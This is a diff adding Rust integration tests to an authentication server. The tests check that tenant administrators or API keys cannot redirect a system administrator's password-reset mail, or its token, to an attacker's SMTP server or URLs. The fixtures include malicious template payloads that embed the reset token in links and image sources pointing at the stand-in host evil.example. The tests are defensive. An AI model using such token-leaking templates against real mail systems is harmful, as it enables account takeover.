@@ -1,0 +1,345 @@
+//! Who may steer whose mail (SECURITY.md "Boundaries between administrators"), against a real
+//! app and real SMTP servers on loopback, on SQLite and PostgreSQL:
+//!
+//! - a tenant administrator of the default tenant (or a tenant API key with `settings:write`)
+//!   gives the tenant their own SMTP server and reset template, then asks "Forgot password?"
+//!   for a system administrator: the link and the "password changed" notice go through the
+//!   system's server with the built-in template; the attacker's server sees none of it, while
+//!   the tenant's own people do get the tenant's server and template;
+//! - a template stored without the save-time checks (an old one, or written straight into the
+//!   database) still can't send the link anywhere but to the server's own URL.
+
+mod common;
+
+use std::time::Duration;
+
+use common::smtp::{ReceivedMail, SmtpOptions, SmtpServer, TlsMode};
+use common::{link_in, mail_html, mail_text, Backend, Browser, TestApp, GOOD_PASSWORD};
+use latchkey::domain::{EmailAddress, Language, Role};
+use latchkey::mail::templates::{MailKind, TemplateSource};
+use latchkey::service::{AccountChanges, Actor};
+use latchkey::store::{self, Account, Tenant};
+use secrecy::ExposeSecret;
+use serde_json::json;
+
+const WAIT: Duration = Duration::from_secs(10);
+const ROOT_MAIL: &str = "root@sys.example";
+const BOB_MAIL: &str = "bob@default.example";
+const NEW_PASSWORD: &str = "velvet thunder across the quiet harbour";
+
+struct World {
+    app: TestApp,
+    tenant: Tenant,
+    /// The system's mail server.
+    sys: SmtpServer,
+    /// The server a tenant administrator of `default` points the tenant at.
+    evil: SmtpServer,
+}
+
+async fn plain_server() -> SmtpServer {
+    SmtpServer::start(SmtpOptions {
+        tls: TlsMode::None,
+        ..SmtpOptions::default()
+    })
+    .await
+}
+
+async fn with_address(app: &TestApp, t: &Tenant, a: Account, to: &str) -> Account {
+    let changes = AccountChanges {
+        email: Some(Some(EmailAddress::parse(to).unwrap())),
+        ..Default::default()
+    };
+    app.core
+        .update_account(&Actor::Cli, t, a, changes)
+        .await
+        .unwrap()
+}
+
+/// The default tenant with reset switched on, a system administrator `root`, a tenant
+/// administrator `tadmin` and a user `bob`; the system's server and the attacker's.
+async fn world(backend: Backend) -> World {
+    let app = TestApp::spawn_with(backend, |c| {
+        c.mail_poll_interval = "100ms".into();
+        c.mail_retry_delay = "30s".into();
+        // The test servers live on loopback; the attacker's must be accepted to show that the
+        // rule doesn't rest on the host check.
+        c.tenant_smtp_allow_private_hosts = true;
+    })
+    .await;
+    let sys = common::plain_smtp(&app.core).await;
+    let evil = plain_server().await;
+    let mut tenant = app.default_tenant().await;
+    let before = tenant.settings.clone();
+    tenant.settings.password_reset_enabled = true;
+    tenant.settings.reset_fallback_to_primary = true;
+    app.core
+        .update_tenant(&Actor::Cli, &tenant, &before)
+        .await
+        .unwrap();
+    let root = app
+        .user_with(&tenant, "root", GOOD_PASSWORD, Role::SystemAdmin)
+        .await;
+    with_address(&app, &tenant, root, ROOT_MAIL).await;
+    app.user_with(&tenant, "tadmin", GOOD_PASSWORD, Role::TenantAdmin)
+        .await;
+    let bob = app.user(&tenant, "bob", GOOD_PASSWORD).await;
+    with_address(&app, &tenant, bob, BOB_MAIL).await;
+    World {
+        app,
+        tenant,
+        sys,
+        evil,
+    }
+}
+
+/// The attacker's template: their marker in every part.
+fn evil_template() -> TemplateSource {
+    TemplateSource {
+        subject: "EVIL reset for {{ tenant_name }}".into(),
+        text: "EVIL {{ reset_link }}".into(),
+        html: "<p>EVIL <a href=\"{{ reset_link }}\">go</a></p>".into(),
+    }
+}
+
+async fn signed_in(app: &TestApp, username: &str) -> Browser {
+    let mut b = app.browser();
+    let r = b.login("default", username, GOOD_PASSWORD).await;
+    assert_eq!(r.status, 303, "{username} signs in: {}", r.body);
+    b
+}
+
+async fn forgot(app: &TestApp, identifier: &str) {
+    let mut b = app.browser();
+    b.get("/t/default/forgot-password").await;
+    let r = b
+        .post("/t/default/forgot-password", &[("identifier", identifier)])
+        .await;
+    assert_eq!(r.status, 200, "{}", r.body);
+}
+
+fn to(m: &ReceivedMail, address: &str) -> bool {
+    m.rcpt_to.iter().any(|r| r == address)
+}
+
+async fn wait_for(srv: &SmtpServer, address: &str, n: usize) -> Vec<ReceivedMail> {
+    let deadline = std::time::Instant::now() + WAIT;
+    loop {
+        let got: Vec<ReceivedMail> = srv
+            .messages()
+            .into_iter()
+            .filter(|m| to(m, address))
+            .collect();
+        if got.len() >= n {
+            return got;
+        }
+        assert!(
+            std::time::Instant::now() < deadline,
+            "only {} mails to {address}",
+            got.len()
+        );
+        tokio::time::sleep(Duration::from_millis(25)).await;
+    }
+}
+
+/// Root asks for a link, follows it and sets a new password; then checks where every mail
+/// went. Bob (whom the tenant's administrators may manage) asks too, as the control.
+async fn root_resets_through_the_system_server(w: &World) {
+    forgot(&w.app, "root").await;
+    forgot(&w.app, "bob").await;
+    // Bob's mail: the tenant's server and template, as its administrators set them.
+    let bob = wait_for(&w.evil, BOB_MAIL, 1).await;
+    assert!(mail_text(&bob[0].data).contains("EVIL"), "{}", bob[0].data);
+    // Root's: the system's server, the built-in template.
+    let root = wait_for(&w.sys, ROOT_MAIL, 1).await;
+    let text = mail_text(&root[0].data);
+    assert!(
+        root[0].data.contains("Subject: Reset your password for"),
+        "{}",
+        root[0].data
+    );
+    assert!(!text.contains("EVIL") && !root[0].data.contains("EVIL"));
+    let link = link_in(&root[0].data, "reset?token=").expect("a link");
+    let base = w.app.core.config.public_url.as_str();
+    let path = link.strip_prefix(base).expect("the public URL").to_owned();
+
+    // Root sets a new password: the notice goes the same way.
+    let mut b = w.app.browser();
+    let r = b.get(&path).await;
+    assert!(matches!(r.status, 200 | 303), "{}", r.body);
+    let r = b
+        .post(
+            "/t/default/reset",
+            &[
+                ("new_password", NEW_PASSWORD),
+                ("confirm_password", NEW_PASSWORD),
+            ],
+        )
+        .await;
+    assert!(matches!(r.status, 200 | 303), "{}", r.body);
+    let notices = wait_for(&w.sys, ROOT_MAIL, 2).await;
+    assert!(
+        notices[1].data.contains("Subject: Your password"),
+        "{}",
+        notices[1].data
+    );
+    // A moment for anything stray, then: nothing for root ever reached the attacker's server.
+    tokio::time::sleep(Duration::from_millis(500)).await;
+    let stray: Vec<ReceivedMail> = w
+        .evil
+        .messages()
+        .into_iter()
+        .filter(|m| to(m, ROOT_MAIL))
+        .collect();
+    assert!(stray.is_empty(), "{stray:#?}");
+    let token = path.split("token=").nth(1).unwrap();
+    for m in w.evil.messages() {
+        assert!(!m.data.contains(token));
+    }
+}
+
+on_both_backends!(
+    tenant_admin_of_default_cannot_steer_a_system_admins_mail,
+    tenant_key_of_default_cannot_steer_a_system_admins_mail,
+    stored_templates_cannot_send_the_link_elsewhere,
+);
+
+async fn tenant_admin_of_default_cannot_steer_a_system_admins_mail(backend: Backend) {
+    let w = world(backend).await;
+    let mut b = signed_in(&w.app, "tadmin").await;
+    // The tenant administrator points the tenant at their own server…
+    let port = w.evil.port().to_string();
+    b.get("/t/default/admin/smtp").await;
+    let r = b
+        .post(
+            "/t/default/admin/smtp",
+            &[
+                ("enabled", "on"),
+                ("host", "127.0.0.1"),
+                ("port", port.as_str()),
+                ("security", "none"),
+                ("username", ""),
+                ("password", ""),
+                ("from_address", "noreply@evil.example"),
+                ("from_name", "IT"),
+                ("timeout_secs", "5"),
+                ("extra_ca_pem", ""),
+                ("test_to", ""),
+                ("action", "save"),
+            ],
+        )
+        .await;
+    assert!(matches!(r.status, 200 | 303), "{}", r.body);
+    // …and writes the reset and notice templates.
+    let t = evil_template();
+    b.get("/t/default/admin/templates/reset_link/en").await;
+    let r = b
+        .post(
+            "/t/default/admin/templates/reset_link/en",
+            &[
+                ("subject", t.subject.as_str()),
+                ("text_body", t.text.as_str()),
+                ("html_body", t.html.as_str()),
+                ("action", "save"),
+            ],
+        )
+        .await;
+    assert_eq!(r.status, 303, "{}", r.body);
+    let r = b
+        .post(
+            "/t/default/admin/templates/password_changed/en",
+            &[
+                ("subject", "EVIL nothing happened"),
+                ("text_body", "EVIL all is well"),
+                ("html_body", "<p>EVIL all is well</p>"),
+                ("action", "save"),
+            ],
+        )
+        .await;
+    assert_eq!(r.status, 303, "{}", r.body);
+    root_resets_through_the_system_server(&w).await;
+}
+
+async fn tenant_key_of_default_cannot_steer_a_system_admins_mail(backend: Backend) {
+    let w = world(backend).await;
+    let scopes = vec!["settings:write".to_owned()];
+    let (_, key) = w
+        .app
+        .core
+        .create_api_key(&Actor::Cli, Some(&w.tenant), "k", &scopes, None)
+        .await
+        .unwrap();
+    let r = reqwest::Client::new()
+        .put(format!("{}/api/v1/tenants/default/smtp", w.app.base))
+        .bearer_auth(key.expose_secret())
+        .json(&json!({
+            "enabled": true, "host": "127.0.0.1", "port": w.evil.port(), "security": "none",
+            "auth": false, "from_address": "noreply@evil.example", "timeout_secs": 5,
+        }))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 200, "{}", r.text().await.unwrap());
+    // Templates have no API: whoever else may write them for the tenant, the rule is the same.
+    w.app
+        .core
+        .save_template(
+            &Actor::Cli,
+            &w.tenant,
+            MailKind::ResetLink,
+            Language::En,
+            &evil_template(),
+            None,
+        )
+        .await
+        .unwrap();
+    root_resets_through_the_system_server(&w).await;
+}
+
+async fn stored_templates_cannot_send_the_link_elsewhere(backend: Backend) {
+    let w = world(backend).await;
+    // Written straight into the store: no save-time check ran.
+    let t = TemplateSource {
+        subject: "Reset".into(),
+        text: "Click https://evil.example/?r={{ reset_link }}\n{% if reset_link == 'x' %}{% endif %}".into(),
+        html: "<p title=\"x>\"><a title=\"a>b\" href=\"https://evil.example/?r={{ reset_link }}\">go</a></p>\
+               <image src=\"https://evil.example/{{ reset_link }}\"><p>https://evil.example/?{{ reset_link }}</p>"
+            .into(),
+    };
+    store::templates::put(
+        &w.app.core.db,
+        w.tenant.id,
+        MailKind::ResetLink,
+        Language::En,
+        &t,
+        "test",
+        w.app.core.now(),
+    )
+    .await
+    .unwrap();
+    forgot(&w.app, "bob").await;
+    let mail = wait_for(&w.sys, BOB_MAIL, 1).await.remove(0);
+    let ours = format!(
+        "{}/t/default/reset?token=",
+        w.app.core.config.public_url.as_str()
+    );
+    let text = mail_text(&mail.data);
+    let token = link_in(&mail.data, "reset?token=")
+        .and_then(|l| l.strip_prefix(&ours).map(str::to_owned))
+        .expect("the link, on its own");
+    for word in text.split_whitespace().filter(|w| w.contains(&token)) {
+        assert!(word.starts_with(&ours), "text: {word}");
+    }
+    assert!(
+        !text.contains("evil.example/?r=http"),
+        "text part glued to another URL: {text}"
+    );
+    let html = mail_html(&mail.data);
+    assert!(html.contains(&format!("href=\"{ours}{token}\"")), "{html}");
+    for (at, _) in html.match_indices(&token) {
+        assert!(html[..at].ends_with(&ours), "{html}");
+        let before = html[..at - ours.len()].chars().last();
+        assert!(matches!(before, Some('"' | '>')), "{html}");
+    }
+    assert!(!html.contains("evil.example/?r=http") && !html.contains("evil.example/http"));
+    assert!(!html.to_ascii_lowercase().contains("<image") && !html.contains("<img"));
+}
